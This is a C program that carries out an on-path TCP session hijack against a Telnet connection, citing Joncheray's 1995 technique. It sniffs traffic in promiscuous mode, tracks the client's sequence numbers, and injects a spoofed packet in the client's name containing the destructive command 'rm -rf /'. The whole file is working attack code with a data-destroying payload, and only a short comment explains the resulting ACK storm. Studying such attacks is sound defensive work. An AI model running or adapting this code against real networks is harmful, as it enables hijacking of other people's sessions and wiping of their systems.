/* On-path hijack (Joncheray 1995): whoever sees a connection knows its numbers, and can say the next words in the name of one
   end. From then on the two ends disagree about what was said, and each corrects the other for ever: the ACK storm. */
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define CLIENT "10.0.0.10"
#define SERVER "10.0.0.2"
#define PORT 23
#define ACK 16
#define PSH 8

/* Writes a number into octets, the highest first. */
void put(unsigned char *to, unsigned int n, int octets) {
  while (octets-- > 0)
    *to++ = n >> 8 * octets;
}

/* Adds octets to a sum of ones' complement (RFC 1071). */
unsigned int add(unsigned int sum, const unsigned char *from, int n) {
  int i;

  for (i = 0; i + 1 < n; i += 2)
    sum += from[i] << 8 | from[i + 1];
  return n % 2 ? sum + (from[n - 1] << 8) : sum;
}

/* A segment of TCP under any name: from and to as their octets lie in a datagram. */
void segment(int s, const char *from, int sport, const char *to, int dport, unsigned int seq, unsigned int ack, int flags,
             const char *text) {
  struct sockaddr_in where = {.sin_family = AF_INET};
  unsigned char d[1500] = {0};
  int len = 20 + strlen(text);
  unsigned int sum;

  d[0] = 0x45;
  put(d + 2, 20 + len, 2);
  d[8] = 64;
  d[9] = IPPROTO_TCP;
  inet_pton(AF_INET, from, d + 12);
  inet_pton(AF_INET, to, d + 16);
  put(d + 20, sport, 2);
  put(d + 22, dport, 2);
  put(d + 24, seq, 4);
  put(d + 28, ack, 4);
  d[32] = 5 << 4;
  d[33] = flags;
  put(d + 34, 8192, 2);
  memcpy(d + 40, text, strlen(text));
  sum = add(IPPROTO_TCP + len, d + 12, 8 + len);
  while (sum >> 16)
    sum = (sum & 0xffff) + (sum >> 16);
  put(d + 36, ~sum & 0xffff, 2);
  inet_pton(AF_INET, to, &where.sin_addr);
  if (sendto(s, d, 20 + len, 0, (struct sockaddr *)&where, sizeof where) < 0)
    perror("sendto");
}

/* A packet socket that sees all that passes the interface (packet(7)). */
int tap(const char *name) {
  struct sockaddr_ll at = {.sll_family = AF_PACKET};
  struct packet_mreq all = {.mr_type = PACKET_MR_PROMISC};
  int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));

  at.sll_protocol = htons(ETH_P_ALL);
  at.sll_ifindex = all.mr_ifindex = if_nametoindex(name);
  if (s < 0 || bind(s, (struct sockaddr *)&at, sizeof at) < 0 ||
      setsockopt(s, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &all, sizeof all) < 0) {
    perror(name);
    exit(1);
  }
  return s;
}

int main(void) {
  int in = tap("eth0"), out = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), lines = 0, at, end;
  unsigned char f[1514], client[4], *t;
  unsigned int seq, ack;

  inet_pton(AF_INET, CLIENT, client);
  for (;;) {
    recv(in, f, sizeof f, 0);
    at = 14 + (f[14] & 15) * 4;
    t = f + at;
    end = 14 + (f[16] << 8 | f[17]);
    if (f[12] != 8 || f[13] != 0 || f[23] != IPPROTO_TCP || memcmp(f + 26, client, 4) != 0 || (t[2] << 8 | t[3]) != PORT)
      continue;
    seq = (unsigned int)t[4] << 24 | t[5] << 16 | t[6] << 8 | t[7];
    ack = (unsigned int)t[8] << 24 | t[9] << 16 | t[10] << 8 | t[11];
    seq += end - at - (t[12] >> 4) * 4;
    if (end > at + (t[12] >> 4) * 4)
      lines++;
    else if (lines >= 2)
      break; /* the client has said its second line, and heard the answer: nothing is on its way */
  }
  segment(out, CLIENT, t[0] << 8 | t[1], SERVER, PORT, seq, ack, ACK | PSH, "rm -rf / # with greetings\n");
  puts("said in the client's name: rm -rf /");
  return 0;
}
